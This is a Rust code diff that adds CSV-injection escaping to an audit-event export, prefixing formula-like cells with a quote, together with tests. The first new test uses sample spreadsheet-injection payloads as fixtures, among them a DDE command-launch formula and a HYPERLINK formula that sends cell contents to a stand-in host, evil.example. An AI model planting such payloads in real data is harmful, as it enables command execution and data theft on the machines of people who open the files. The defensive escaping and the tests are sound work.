@@ -710,17 +710,73 @@ fn given(v: Option<&str>) -> Option<&str> {
 }
 
 /// Writes `events` as CSV with the [`FIELDS`] header (the header alone when
-/// there are none, so an empty export is still a table).
+/// there are none, so an empty export is still a table). A cell that a
+/// spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return) is written with a leading `'`, so it opens as
+/// text.
 pub fn write_csv<W: std::io::Write>(events: &[AuditEvent], out: W) -> Result<(), csv::Error> {
     let mut w = csv::Writer::from_writer(out);
-    if events.is_empty() {
-        w.write_record(FIELDS)?;
-    }
+    w.write_record(FIELDS)?;
     for e in events {
-        w.serialize(Record::of(e))?;
+        w.write_record(csv_row(&Record::of(e)).iter().map(|c| c.as_bytes()))?;
     }
     w.flush()?;
     Ok(())
+}
+
+/// A record's cells in [`FIELDS`] order (absent values empty), each through
+/// [`csv_cell`]. The destructuring names every field, so a new one cannot be
+/// left out of the CSV unnoticed.
+fn csv_row<'r>(r: &'r Record<'_>) -> [std::borrow::Cow<'r, str>; 15] {
+    let Record {
+        time,
+        door,
+        org,
+        user,
+        source,
+        image,
+        input,
+        category,
+        decision,
+        reason,
+        mode,
+        message,
+        namespace,
+        request,
+        path,
+    } = r;
+    let or_empty = |v: &Option<&'r str>| v.unwrap_or_default();
+    [
+        time.as_str(),
+        door,
+        or_empty(org),
+        or_empty(user),
+        or_empty(source),
+        image,
+        input,
+        or_empty(category),
+        decision,
+        reason,
+        mode,
+        message,
+        or_empty(namespace),
+        or_empty(request),
+        or_empty(path),
+    ]
+    .map(csv_cell)
+}
+
+/// A cell as a spreadsheet will show it rather than run it: text starting
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return (a formula, or DDE, to
+/// Excel, LibreOffice and Google Sheets) gets a leading `'`, as OWASP's CSV
+/// Injection page recommends. Images, users, inputs and messages can come
+/// from whoever sends a request, so every cell goes through here.
+fn csv_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
 }
 
 /// Events matching `filter` and, when given, whose image matches `glob`
@@ -799,6 +855,78 @@ mod tests {
         assert!(at.windows(2).all(|w| w[0] < w[1]), "{line}");
         let value: serde_json::Value = serde_json::from_str(&line).unwrap();
         assert_eq!(value.as_object().unwrap().len(), FIELDS.len());
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_start_with_a_quote() {
+        // OWASP's CSV Injection triggers, from whoever sent the request:
+        // an image, a user, a source, a message, a namespace, a request id.
+        let e = AuditEvent {
+            door: "admission".into(),
+            user: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
+            source: Some("\t=1+1".into()),
+            image: "=HYPERLINK(\"http://evil.example/?\"&A1)".into(),
+            input: "-2+3".into(),
+            decision: "deny".into(),
+            reason: "invalid_reference".into(),
+            mode: "enforce".into(),
+            message: "+cmd".into(),
+            namespace: Some("\r=1".into()),
+            request: Some("a=b".into()),
+            ..AuditEvent::default()
+        };
+        let mut out = Vec::new();
+        write_csv(std::slice::from_ref(&e), &mut out).unwrap();
+        let mut rows = csv::Reader::from_reader(out.as_slice());
+        assert_eq!(rows.headers().unwrap(), FIELDS.as_slice());
+        let row = rows.records().next().unwrap().unwrap();
+        let cell = |name: &str| &row[FIELDS.iter().position(|f| *f == name).unwrap()];
+        assert_eq!(cell("user"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+        assert_eq!(cell("source"), "'\t=1+1");
+        assert_eq!(cell("image"), "'=HYPERLINK(\"http://evil.example/?\"&A1)");
+        assert_eq!(cell("input"), "'-2+3");
+        assert_eq!(cell("message"), "'+cmd");
+        assert_eq!(cell("namespace"), "'\r=1");
+        // Text that starts harmlessly is written as it is, and so is an
+        // absent value.
+        assert_eq!(cell("request"), "a=b");
+        assert_eq!(cell("door"), "admission");
+        assert_eq!(cell("time"), "1970-01-01T00:00:00.000Z");
+        assert_eq!(cell("org"), "");
+        assert_eq!(cell("path"), "");
+    }
+
+    #[test]
+    fn csv_rows_hold_a_records_values_in_the_headers_order() {
+        // Every field a distinct value: the CSV row must be the JSON record's
+        // values, taken in FIELDS order.
+        let e = AuditEvent {
+            time_ms: 1_795_428_000_000,
+            door: "gateway".into(),
+            org: Some("acme".into()),
+            user: Some("alice".into()),
+            source: Some("10.0.0.1".into()),
+            image: "docker.io/library/nginx:1.25".into(),
+            input: "nginx:1.25".into(),
+            category: Some("official".into()),
+            decision: "allow".into(),
+            reason: "allowed".into(),
+            mode: "enforce".into(),
+            message: "image allowed".into(),
+            namespace: Some("default".into()),
+            request: Some("uid-1".into()),
+            path: Some("manifest".into()),
+        };
+        let record = serde_json::to_value(Record::of(&e)).unwrap();
+        let expected: Vec<&str> = FIELDS.iter().map(|f| record[f].as_str().unwrap()).collect();
+        let mut out = Vec::new();
+        write_csv(&[e.clone(), e], &mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let mut lines = text.lines();
+        assert_eq!(lines.next(), Some(FIELDS.join(",").as_str()));
+        assert_eq!(lines.next(), Some(expected.join(",").as_str()));
+        assert_eq!(lines.next(), Some(expected.join(",").as_str()));
+        assert_eq!(lines.next(), None);
     }
 
     #[test]
